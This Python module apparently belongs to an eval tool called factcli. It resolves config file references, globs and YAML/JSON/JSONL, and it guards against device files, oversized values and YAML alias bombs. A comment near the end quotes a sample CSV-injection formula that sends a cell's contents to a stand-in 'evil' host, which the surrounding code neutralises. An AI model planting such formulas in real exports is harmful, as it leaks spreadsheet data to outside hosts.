"""Reading the files a config points at: `file://` references, globs, YAML/JSON/JSONL, env expansion."""

from __future__ import annotations

import glob
import json
import os
import re
from pathlib import Path
from typing import Any, ClassVar

import yaml

from factcli.errors import ConfigError

_ENV_REF = re.compile(r"\$\{([A-Za-z_][A-Za-z0-9_]*)\}|\{\{\s*env\.([A-Za-z_][A-Za-z0-9_]*)\s*\}\}")


def is_file_ref(value: Any) -> bool:
    return isinstance(value, str) and value.startswith("file://")


def ref_path(ref: str, base: Path) -> tuple[Path, str | None]:
    """`file://x.py:fn` -> (base/x.py, 'fn'). Windows drive letters are not a function suffix."""
    rest = ref[len("file://"):]
    func = None
    m = re.match(r"^(.*\.(?:py|js|cjs|mjs|ts|mts|cts|tsx)):([A-Za-z_][\w.]*)$", rest)
    if m:
        rest, func = m.group(1), m.group(2)
    try:
        rest = os.path.expanduser(rest)
    except ValueError:  # `~name` holding a character no user name has (a NUL byte): no home directory
        pass
    p = Path(rest)
    return (p if p.is_absolute() else base / p), func


def exists(path: Path) -> bool:
    """Path.exists, but a name the OS cannot even look up (too long, a NUL byte) just does not exist."""
    try:
        return path.exists()
    except (OSError, ValueError):
        return False


def is_file(path: Path) -> bool:
    try:
        return path.is_file()
    except (OSError, ValueError):
        return False


GLOB_CHARS = "*?[{"


def is_glob(text: str) -> bool:
    """Whether a path is a glob pattern: `*`, `?`, `[…]` or a `{a,b}` list (promptfoo's glob syntax)."""
    return any(ch in text for ch in GLOB_CHARS)


def _braces(pattern: str) -> list[str]:
    """`a/{x,y}/*.txt` -> ['a/x/*.txt', 'a/y/*.txt'] (Python's glob has no `{a,b}`); nested lists work."""
    depth, start = 0, -1
    for i, ch in enumerate(pattern):
        if ch == "{":
            depth, start = depth + 1, (i if depth == 0 else start)
        elif ch == "}" and depth:
            depth -= 1
            if depth == 0:
                inner, parts, level, last = pattern[start + 1:i], [], 0, 0
                for j, c in enumerate(inner):  # split at the commas of this level only
                    level += (c == "{") - (c == "}")
                    if c == "," and level == 0:
                        parts.append(inner[last:j])
                        last = j + 1
                if not parts:  # `{x}`: not a list, a literal brace
                    return [pattern[:i + 1] + rest for rest in _braces(pattern[i + 1:])]
                parts.append(inner[last:])
                return [pattern[:start] + x for part in parts for x in _braces(part + pattern[i + 1:])]
    return [pattern]


def expand_glob(path: Path, file: str, key: str) -> list[Path]:
    """The files a `file://` path names: itself, or every FILE a glob matches (folders are skipped), sorted
    by path so that rows, prompts and merged var files come in the same order on every machine
    (promptfoo's order is the file system's)."""
    if is_glob(str(path)):
        found = {p for pattern in _braces(str(path)) for p in glob.glob(pattern, recursive=True)}
        matches = sorted(Path(p) for p in found if is_file(Path(p)))
        if not matches:
            raise ConfigError(f"no files match '{path}'", file, key)
        return matches
    if not exists(path):
        raise ConfigError(f"file not found: {path}", file, key)
    if path.is_dir():
        raise ConfigError(f"{path} is a folder, not a file (for every file in it, use a glob such as "
                          f"file://{path}/*.yaml)", file, key)
    return [path]


# The largest cell, line or value factcli reads from a tests file, a var file or `--var` (characters):
# one past it is an error naming where, not a run that holds gigabytes (docs/configuration.md).
VALUE_LIMIT = 64 * 2**20
VALUE_LIMIT_TEXT = "64 MiB"


def _refuse_device(handle, path: Path, file: str, key: str) -> None:
    """A character or block device (a file symlinked to /dev/zero or /dev/urandom) never ends: refused
    before a byte is read."""
    import stat

    mode = os.fstat(handle.fileno()).st_mode
    if stat.S_ISCHR(mode) or stat.S_ISBLK(mode):
        raise ConfigError(f"{_which(path, file)}is a device, not a file (it never ends)", file, key)


def read_text(path: Path, file: str, key: str, *, keep_newlines: bool = False, limit: int | None = None) -> str:
    """`keep_newlines`: the text as its bytes say (a CRLF inside a quoted CSV cell stays CRLF), else
    with line ends made `\n`. `limit`: the most characters the text may have (VALUE_LIMIT for a value)."""
    try:
        with open(path, encoding="utf-8-sig", newline="" if keep_newlines else None) as handle:
            _refuse_device(handle, path, file, key)
            text = handle.read() if limit is None else handle.read(limit + 1)
        if limit is not None and len(text) > limit:
            raise ConfigError(f"{_which(path, file)}is larger than the {VALUE_LIMIT_TEXT} a value may hold", file, key)
        return text
    except FileNotFoundError:
        raise ConfigError(f"file not found: {path}", file, key) from None
    except UnicodeDecodeError as exc:
        raise ConfigError(f"{_which(path, file)}not UTF-8 text (byte {exc.start})", file, key) from None
    except IsADirectoryError:
        raise ConfigError(f"{path} is a folder, not a file", file, key) from None
    except (OSError, ValueError) as exc:  # ValueError: a NUL in the name
        raise ConfigError(f"{_which(path, file)}cannot read: {getattr(exc, 'strerror', None) or exc}", file,
                          key) from None


READ_CHUNK = 1 << 16  # characters read_chunks reads at a time


def read_chunks(path: Path, file: str, key: str):
    """A tests file's text a piece at a time, each piece ending after a newline (the last one: where the
    file ends), its bytes kept as they are (a CRLF inside a quoted CSV cell stays CRLF): the file is
    never held whole. A line longer than VALUE_LIMIT, or a device, is an error naming the file."""
    import codecs

    try:
        handle = open(path, "rb")
    except FileNotFoundError:
        raise ConfigError(f"file not found: {path}", file, key) from None
    except IsADirectoryError:
        raise ConfigError(f"{path} is a folder, not a file", file, key) from None
    except (OSError, ValueError) as exc:
        raise ConfigError(f"{_which(path, file)}cannot read: {getattr(exc, 'strerror', None) or exc}", file,
                          key) from None
    with handle:
        _refuse_device(handle, path, file, key)
        decoder = codecs.getincrementaldecoder("utf-8-sig")()
        held, offset = "", 0  # held: the text after the last newline; offset: the bytes decoded before
        while True:
            data = handle.read(READ_CHUNK)
            try:
                text = decoder.decode(data, final=not data)
            except UnicodeDecodeError as exc:
                raise ConfigError(f"{_which(path, file)}not UTF-8 text (byte {offset + exc.start})", file,
                                  key) from None
            offset += len(data)
            held += text
            cut = held.rfind("\n") + 1
            if cut:
                yield held[:cut]
                held = held[cut:]
            if len(held) > VALUE_LIMIT:
                raise ConfigError(f"{_which(path, file)}has a line longer than the {VALUE_LIMIT_TEXT} a line may "
                                  "hold", file, key)
            if not data:
                if held:
                    yield held
                return


def _which(path: Path, file: str) -> str:
    """Name the file read, unless the message already starts with it."""
    return "" if str(path) == file else f"{path}: "


class _UniqueKeyLoader(getattr(yaml, "CSafeLoader", yaml.SafeLoader)):  # libyaml (C) when present: much faster
    """Every YAML factcli reads: safe types, a repeated key is an error, and plain scalars resolved
    as promptfoo's js-yaml 4 resolves them (YAML 1.2 core schema plus timestamps and `<<` merges)."""

    yaml_implicit_resolvers: ClassVar[dict] = {}  # PyYAML's are YAML 1.1's: `Yes`/`no`/`on` booleans, `010` octal, `1:30`


# js-yaml 4.1's implicit types, in its order (first match wins), as Python regexes:
# - bool: only true/True/TRUE/false/False/FALSE (so `Yes`, `no`, `on`, `off`, `y`, `n` stay strings);
# - int: `0`, decimals (a leading zero stays decimal: `010` is 10), `0b`/`0o`/`0x` with `_` between
#   digits; no sexagesimal (`1:30` is a string);
# - float: js-yaml's pattern, quirks included (`1e3` is a number, `+.5` a string), `.inf`, `.nan`.
_JS_YAML_TYPES = (
    ("tag:yaml.org,2002:null", r"(?:~|null|Null|NULL|)\Z", ["~", "n", "N", ""]),
    ("tag:yaml.org,2002:bool", r"(?:true|True|TRUE|false|False|FALSE)\Z", list("tTfF")),
    ("tag:yaml.org,2002:int",
     (r"[-+]?(?:0b[01_]*[01]|0x[0-9a-fA-F_]*[0-9a-fA-F]|0o[0-7_]*[0-7]|0|[1-9](?:[0-9_]*[0-9])?"
      r"|0[0-9](?:[0-9_]*[0-9])?)\Z"), list("-+0123456789")),
    ("tag:yaml.org,2002:float",
     (r"(?:[-+]?[0-9][0-9_]*(?:\.[0-9_]*)?(?:[eE][-+]?[0-9]+)?|\.[0-9_]+(?:[eE][-+]?[0-9]+)?"
      r"|[-+]?\.(?:inf|Inf|INF)|\.(?:nan|NaN|NAN))(?<!_)\Z"), list("-+.0123456789")),
    ("tag:yaml.org,2002:timestamp",
     (r"[0-9][0-9][0-9][0-9]-[0-9][0-9]-[0-9][0-9]\Z|[0-9][0-9][0-9][0-9]-[0-9][0-9]?-[0-9][0-9]?"
      r"(?:[Tt]|[ \t]+)[0-9][0-9]?:[0-9][0-9]:[0-9][0-9](?:\.[0-9]*)?(?:[ \t]*(?:Z|[-+][0-9][0-9]?(?::[0-9][0-9])?))?\Z"),
     list("0123456789")),
    ("tag:yaml.org,2002:merge", r"<<\Z", ["<"]),
)
for _tag, _pattern, _first in _JS_YAML_TYPES:
    _UniqueKeyLoader.add_implicit_resolver(_tag, re.compile(_pattern), _first)


def _js_yaml_int(loader, node) -> int:
    """js-yaml's constructYamlInteger: underscores dropped, `0b`/`0o`/`0x` prefixes, else base 10."""
    text = loader.construct_scalar(node).replace("_", "")
    sign = -1 if text[0] == "-" else 1
    body = text.lstrip("+-")
    base = {"0b": 2, "0o": 8, "0x": 16}.get(body[:2])
    return sign * (int(body[2:], base) if base else int(body, 10))


def _js_yaml_float(loader, node) -> float:
    text = loader.construct_scalar(node).replace("_", "").lower()
    sign = -1.0 if text[0] == "-" else 1.0
    body = text.lstrip("+-")
    if body == ".inf":
        return sign * float("inf")
    if body == ".nan":
        return float("nan")
    return sign * float(body)


_UniqueKeyLoader.add_constructor("tag:yaml.org,2002:int", _js_yaml_int)
_UniqueKeyLoader.add_constructor("tag:yaml.org,2002:float", _js_yaml_float)


def _no_duplicates(loader, node, deep=False):
    # keys written in this mapping; a `<<` merge adds keys that written ones may override (as in js-yaml)
    written = [key_node for key_node, _ in node.value if key_node.tag != "tag:yaml.org,2002:merge"]
    merges = len(written) < len(node.value)
    mapping = loader.construct_mapping(node, deep)
    if merges or len(mapping) < len(written):  # only then look for the key that repeats
        seen = set()
        for key_node in written:
            key = loader.construct_object(key_node, deep=deep)
            if isinstance(key, (str, int, float, bool)) and key in seen:
                raise yaml.constructor.ConstructorError(None, None, f"duplicate key '{key}'", key_node.start_mark)
            seen.add(key)
    return mapping


_UniqueKeyLoader.add_constructor(yaml.resolver.BaseResolver.DEFAULT_MAPPING_TAG, _no_duplicates)


MAX_DEPTH = 100


def _too_deep(file: str) -> ConfigError:
    return ConfigError(f"nested more than {MAX_DEPTH} levels deep (or a YAML alias refers to itself)", file)


def check_depth(data: Any, file: str) -> Any:
    """Refuse absurdly nested data (or a YAML alias that contains itself) up front: everything
    after loading walks it recursively and would die with a RecursionError."""

    def walk(value: Any, room: int) -> None:
        if room == 0:
            raise _too_deep(file)
        for v in (value.values() if type(value) is dict else value):
            if type(v) is dict or type(v) is list:
                walk(v, room - 1)

    if type(data) is dict or type(data) is list:
        walk(data, MAX_DEPTH)
    return data


MAX_ALIAS_VALUES = 1_000_000  # values a document may have once its aliases are expanded ...
MAX_ALIAS_RATIO = 100  # ... when that is this many times what it holds


def check_aliases(data: Any, file: str) -> Any:
    """check_depth for a document that may share nodes (YAML anchors and aliases): each shared node
    is measured once, so that an alias bomb (aliases of aliases, a few lines that expand to
    billions of values) is refused at once instead of being walked, copied or stored."""
    memo: dict[int, tuple[int, int]] = {}  # id -> (depth, values once expanded)
    path: set[int] = set()
    held = 0

    def measure(value: Any) -> tuple[int, int]:
        nonlocal held
        key = id(value)
        if key in memo:
            return memo[key]
        if key in path or len(path) >= MAX_DEPTH:
            raise _too_deep(file)
        path.add(key)
        depth, size = 0, 1
        items = value.values() if type(value) is dict else value
        held += 1 + len(items)
        for v in items:
            if type(v) is dict or type(v) is list:
                d, n = measure(v)
                depth, size = max(depth, d), size + n
            else:
                size += 1
        path.discard(key)
        memo[key] = (depth + 1, size)
        return memo[key]

    if type(data) is dict or type(data) is list:
        _, size = measure(data)
        if size > MAX_ALIAS_VALUES and size > MAX_ALIAS_RATIO * held:
            raise ConfigError(f"its YAML aliases expand to {size:,} values from {held:,} written (an alias bomb?); "
                              "repeat the data itself or nest fewer aliases", file)
    return data


class _Unusual(Exception):
    """Something the event-stream reader leaves to PyYAML's own loader."""


_PLAIN_TAGS = frozenset("tag:yaml.org,2002:" + t for t in ("str", "int", "float", "bool", "null"))
_STR_TAG = "tag:yaml.org,2002:str"
_MAP_TAG = yaml.resolver.BaseResolver.DEFAULT_MAPPING_TAG
_SEQ_TAG = yaml.resolver.BaseResolver.DEFAULT_SEQUENCE_TAG


def _load_events(text: str) -> Any:
    """yaml.load(text, _UniqueKeyLoader) for one plain document, built from the parser's events.

    PyYAML composes the whole node graph (a node and two marks per scalar) before constructing
    anything: ~180 MB for a 3 MB config of 100,000 tests, the peak of a large eval. Reading the
    events directly builds the same dicts, lists and scalars (each scalar resolved and constructed
    by the loader's own resolver and constructors) with no graph. Anchors, aliases, other tags,
    merge keys, repeated keys, several documents or any error raise _Unusual, and the caller
    loads the text the usual way, so every result and error message stays PyYAML's own.
    """
    from yaml.events import (AliasEvent, DocumentEndEvent, DocumentStartEvent, MappingEndEvent,
                             MappingStartEvent, ScalarEvent, SequenceEndEvent, SequenceStartEvent,
                             StreamEndEvent, StreamStartEvent)
    from sys import intern

    from yaml.nodes import MappingNode, ScalarNode, SequenceNode

    loader = _UniqueKeyLoader(text)
    try:
        get = loader.get_event
        resolve = loader.resolve
        constructors = loader.yaml_constructors

        def scalar(event) -> Any:
            tag = event.tag
            if tag is None or tag == "!":
                tag = resolve(ScalarNode, event.value, event.implicit)
            if tag == _STR_TAG:
                return event.value
            if tag not in _PLAIN_TAGS:
                raise _Unusual
            return constructors[tag](loader, ScalarNode(tag, event.value, event.start_mark, event.end_mark,
                                                        event.style))

        def node(event) -> Any:
            cls = type(event)
            if cls is not AliasEvent and event.anchor is not None:
                raise _Unusual
            if cls is ScalarEvent:
                return scalar(event)
            if cls is MappingStartEvent:
                tag = event.tag
                if tag is None or tag == "!":
                    tag = resolve(MappingNode, None, event.implicit)
                if tag != _MAP_TAG:
                    raise _Unusual
                out: dict = {}
                pairs = 0
                while True:
                    e = get()
                    if type(e) is MappingEndEvent:
                        break
                    key = node(e)
                    if type(key) is str:
                        key = intern(key)  # "vars", "assert", ...: one string for every test's mapping
                    out[key] = node(get())
                    pairs += 1
                if len(out) != pairs:
                    raise _Unusual  # repeated keys: an error or not, PyYAML's loader decides
                return out
            if cls is SequenceStartEvent:
                tag = event.tag
                if tag is None or tag == "!":
                    tag = resolve(SequenceNode, None, event.implicit)
                if tag != _SEQ_TAG:
                    raise _Unusual
                items: list = []
                while True:
                    e = get()
                    if type(e) is SequenceEndEvent:
                        return items
                    items.append(node(e))
            raise _Unusual

        if type(get()) is not StreamStartEvent or type(get()) is not DocumentStartEvent:
            raise _Unusual
        data = node(get())
        if type(get()) is not DocumentEndEvent or type(get()) is not StreamEndEvent:
            raise _Unusual
        return data
    except _Unusual:
        raise
    except Exception:
        raise _Unusual from None
    finally:
        loader.dispose()


def parse_yaml(text: str, file: str) -> Any:
    try:
        return check_depth(_load_events(text), file)
    except _Unusual:
        pass
    try:
        return check_aliases(yaml.load(text, Loader=_UniqueKeyLoader), file)
    except yaml.MarkedYAMLError as exc:
        if "maximum nesting depth" in str(exc.problem):  # PyYAML >= 6.0.4 stops deep documents itself
            raise _too_deep(file) from None
        mark = exc.problem_mark or exc.context_mark
        where = f"line {mark.line + 1}, column {mark.column + 1}: " if mark else ""
        error = ConfigError(f"invalid YAML: {where}{exc.problem or exc.context}", file)
        error.excerpt = excerpt(text, mark.line, mark.column) if mark else []
        raise error from None
    except yaml.reader.ReaderError as exc:  # its str() spans two lines
        line = text.count("\n", 0, exc.position) + 1
        column = exc.position - (text.rfind("\n", 0, exc.position) + 1) + 1
        code = ord(exc.character) if isinstance(exc.character, str) else exc.character
        raise ConfigError(f"invalid YAML: line {line}, column {column}: {exc.reason} (character #x{code:04x})",
                          file) from None
    except yaml.YAMLError as exc:
        raise ConfigError("invalid YAML: " + " ".join(str(exc).split()), file) from None
    except RecursionError:
        raise _too_deep(file) from None


def excerpt(text: str, line: int, column: int, before: int = 2) -> list[str]:
    """The lines of `text` up to the 0-based `line`, numbered, with a caret under `column`: what a
    syntax error shows below its one line."""
    lines = text.splitlines()
    if not 0 <= line < len(lines):
        return []
    first = max(0, line - before)
    width = len(str(line + 1))
    out = [f"{'>' if n == line else ' '} {n + 1:>{width}} | {lines[n][:200]}" for n in range(first, line + 1)]
    if column <= 200:
        out.append(f"  {' ' * width} | {' ' * column}^")
    return out


def load_structured(path: Path, file: str | None = None, key: str = "") -> Any:
    """Parse a .yaml/.yml/.json/.jsonl file; JSONL gives a list. `key`: where `file` names it."""
    name = file or str(path)
    return parse_structured(read_text(path, name, key), path.suffix.lower(), name)


def parse_structured(text: str, suffix: str, name: str) -> Any:
    """The data of a YAML, JSON or JSONL text (by `suffix`, e.g. ".json"); `name` says where it came from."""
    if suffix == ".json":
        try:
            return check_depth(json.loads(text), name)
        except json.JSONDecodeError as exc:
            raise ConfigError(f"invalid JSON: line {exc.lineno}, column {exc.colno}: {exc.msg}", name) from None
        except RecursionError:
            raise ConfigError("invalid JSON: nested too deeply", name) from None
    if suffix == ".jsonl":
        rows = []
        for n, line in enumerate(text.splitlines(), 1):
            if line.strip():
                try:
                    rows.append(check_depth(json.loads(line), name))
                except json.JSONDecodeError as exc:
                    raise ConfigError(f"invalid JSON: {exc.msg}", name, f"line {n}") from None
                except RecursionError:
                    raise ConfigError("invalid JSON: nested too deeply", name, f"line {n}") from None
        return rows
    return parse_yaml(text, name)


def expand_env(value: Any) -> Any:
    """Replace `${NAME}` and `{{ env.NAME }}` in strings; unset names are left as written."""
    if isinstance(value, str):
        if "${" not in value and "env." not in value:
            return value

        def sub(m: re.Match) -> str:
            name = m.group(1) or m.group(2)
            return os.environ.get(name, m.group(0))

        return _ENV_REF.sub(sub, value)
    # Unchanged containers are returned as they are, so that the expanded config shares its
    # tests with the document as written instead of copying every mapping (nothing mutates either).
    if isinstance(value, list):
        items = [expand_env(v) for v in value]
        return value if all(a is b for a, b in zip(items, value)) else items
    if isinstance(value, dict):
        out = {k: expand_env(v) for k, v in value.items()}
        return value if all(out[k] is v for k, v in value.items()) else out
    return value


# Which file suffixes are Python, JavaScript and TypeScript code, everywhere a config names code.
PY_SUFFIXES = (".py",)
JS_SUFFIXES = (".js", ".cjs", ".mjs")
TS_SUFFIXES = (".ts", ".mts", ".cts", ".tsx")
SCRIPT_SUFFIXES = PY_SUFFIXES + JS_SUFFIXES + TS_SUFFIXES


class ScriptRef(str):
    """A script var's `file://` reference as written (what results and tables show), carrying the
    absolute reference it was resolved to when the config was read (`target`)."""

    __slots__ = ("target",)

    def __new__(cls, written: str, target: str):
        ref = super().__new__(cls, written)
        ref.target = target
        return ref


class Rows(list):
    """A var's values that become one row each, as a list of strings written in the config does: the
    files a `file://` glob matched (`article: file://articles/*`), or a written list of `file://`
    values once each is loaded (a loaded JSON file is a mapping, which a plain list would not expand)."""


def load_var_file(ref: str, base: Path, file: str, key: str) -> Any:
    """A var given as `file://…` (promptfoo-features §5.2-5.3), read when the config loads: a glob gives
    `Rows`, one per file matched; a file gives its value by extension (`file_var_value`). A script (`.py`,
    `.js`, optionally `:fn`) stays a `file://` reference with an absolute path: it is called per row
    (run/planning/row_vars.py)."""
    path, func = ref_path(ref, base)
    if func is None and is_glob(ref[len("file://"):]):
        return Rows(file_var_value(p, None, file, key) for p in expand_glob(path, file, key))
    value = file_var_value(path, func, file, key)
    return ScriptRef(ref, value.target) if isinstance(value, ScriptRef) else value


IMAGE_TYPES = {".png": "image/png", ".jpg": "image/jpeg", ".jpeg": "image/jpeg", ".gif": "image/gif",
               ".webp": "image/webp", ".bmp": "image/bmp", ".tif": "image/tiff", ".tiff": "image/tiff"}
MEDIA_SUFFIXES = (".mp3", ".wav", ".ogg", ".m4a", ".aac", ".flac", ".opus", ".mp4", ".webm", ".mov", ".mkv",
                  ".avi", ".m4v")
_MAGIC = ((b"\x89PNG\r\n\x1a\n", "image/png"), (b"\xff\xd8\xff", "image/jpeg"), (b"GIF8", "image/gif"),
          (b"BM", "image/bmp"), (b"II*\x00", "image/tiff"), (b"MM\x00*", "image/tiff"))


def file_var_value(path: Path, func: str | None, file: str, key: str) -> Any:
    """What a var whose value is `file://path` holds. Text files (`.txt`, `.md`, `.csv`, anything else)
    give their text trimmed at both ends, as promptfoo does; `.json` and `.yaml` give the parsed data
    (promptfoo passes JSON on as text and YAML as compact JSON text: docs/promptfoo-departures.md);
    images a `data:` URI, audio and video bare base64; `.pdf` its text (with pypdf). Never a template."""
    suffix = path.suffix.lower()
    if suffix in SCRIPT_SUFFIXES:
        if not is_file(path):
            raise ConfigError(f"script var file not found: {path}", file, key)
        target = f"file://{path.resolve()}" + (f":{func}" if func else "")
        return ScriptRef(target, target)  # load_var_file gives it the reference as written
    if not exists(path):
        raise ConfigError(f"file not found: {path}", file, key)
    if path.is_dir():
        raise ConfigError(f"{path} is a folder, not a file (for one row per file in it, use a glob such as "
                          f"file://{path}/*)", file, key)
    if suffix in (".json", ".yaml", ".yml"):
        return load_structured(path)
    if suffix in IMAGE_TYPES or suffix in MEDIA_SUFFIXES:
        import base64

        data = _read_bytes(path, file, key)
        encoded = base64.b64encode(data).decode("ascii")
        if suffix in MEDIA_SUFFIXES:
            return encoded
        mime = next((m for magic, m in _MAGIC if data.startswith(magic)), None)
        if mime is None and data[:4] == b"RIFF" and data[8:12] == b"WEBP":
            mime = "image/webp"
        return f"data:{mime or IMAGE_TYPES[suffix]};base64,{encoded}"
    if suffix == ".pdf":
        return _pdf_text(path, file, key)
    return read_text(path, file, key, limit=VALUE_LIMIT).strip()


def _read_bytes(path: Path, file: str, key: str) -> bytes:
    try:
        with open(path, "rb") as handle:
            _refuse_device(handle, path, file, key)
            data = handle.read(VALUE_LIMIT + 1)
    except OSError as exc:
        raise ConfigError(f"{path}: cannot read: {exc.strerror or exc}", file, key) from None
    if len(data) > VALUE_LIMIT:
        raise ConfigError(f"{path}: larger than the {VALUE_LIMIT_TEXT} a value may hold", file, key)
    return data


def _pdf_text(path: Path, file: str, key: str) -> str:
    """A PDF's text, page by page (promptfoo uses pdf-parse; factcli uses pypdf if it is installed)."""
    try:
        import pypdf
    except ImportError:
        raise ConfigError(f"reading the text of {path.name} needs pypdf: pip install pypdf "
                          "(or give the var a .txt file with the text)", file, key) from None
    try:
        reader = pypdf.PdfReader(str(path))
        return "\n\n".join((page.extract_text() or "").strip() for page in reader.pages).strip()
    except Exception as exc:  # pypdf raises many kinds for a damaged file
        raise ConfigError(f"{path.name}: cannot read the PDF: {exc}", file, key) from None


def load_vars_files(spec: str | list, base: Path, file: str, key: str) -> dict:
    """Test-level `vars:` given as a file, a list of files or a glob (`vars: file://vars/*.yaml`, with or
    without `file://`): each must hold a mapping; they merge in order (sorted within a glob), later
    files winning, as promptfoo merges them."""
    merged: dict = {}
    for i, item in enumerate([spec] if isinstance(spec, str) else spec):
        where = key if isinstance(spec, str) else f"{key}[{i}]"
        ref = item if is_file_ref(item) else "file://" + item
        path, _ = ref_path(ref, base)
        for p in expand_glob(path, file, where):
            data = load_structured(p)
            if not isinstance(data, dict):
                raise ConfigError(f"a vars file must hold a mapping of variables, got {_kind(data)}", str(p))
            merged.update(data)
    return merged


def _kind(value: Any) -> str:
    return "nothing" if value is None else type(value).__name__


CSV_FIELD_LIMIT = VALUE_LIMIT


def allow_large_csv_cells() -> None:
    """A CSV cell of up to VALUE_LIMIT loads (a long document in a cell): the csv module refuses cells over
    128 KiB unless told otherwise. Every CSV reader of inputs calls this first."""
    import csv

    if csv.field_size_limit() != CSV_FIELD_LIMIT:
        csv.field_size_limit(CSV_FIELD_LIMIT)


# A CSV cell a spreadsheet would run as a formula (an output `=HYPERLINK("http://evil/?"&A1)`, a var
# `@SUM(…)`) is written with a leading ' so that it shows as text (OWASP's CSV injection advice);
# numbers (-0.5) stay numbers. Every CSV factcli writes for people (exports, `ratings export`) follows
# this rule, and a CSV factcli reads back as its own (calibrate's labels) takes the ' off again.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutral_cell(value):
    if isinstance(value, str) and value.startswith(FORMULA_START):
        try:
            float(value)
        except ValueError:
            return "'" + value
    if isinstance(value, str) and value.startswith("'"):  # so that reading back is exact (cell_read_back)
        return "'" + value
    return value


def cell_read_back(value):
    """What neutral_cell wrote, as it was (a cell `'=…` is `=…`): the inverse, for factcli's own files."""
    if isinstance(value, str) and value.startswith("'") and neutral_cell(value[1:]) == value:
        return value[1:]
    return value
